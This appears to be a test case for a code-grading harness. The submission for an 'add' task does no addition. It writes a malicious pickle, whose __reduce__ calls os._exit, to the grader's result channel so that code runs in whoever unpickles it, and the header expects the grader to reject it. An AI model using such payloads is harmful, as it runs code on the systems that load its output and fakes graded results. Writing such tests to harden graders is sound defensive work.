#: tries: answers with a pickle that would run code in whoever loads it
#: task: add
#: verdict: wrong_answer runtime_error

import os
import pickle


class Payload:
    def __reduce__(self):
        return os._exit, (0,)


def add(a, b):
    for frame in (pickle.dumps(Payload()), pickle.dumps(7)):
        os.write(3, len(frame).to_bytes(4, "big") + frame)
    os._exit(0)
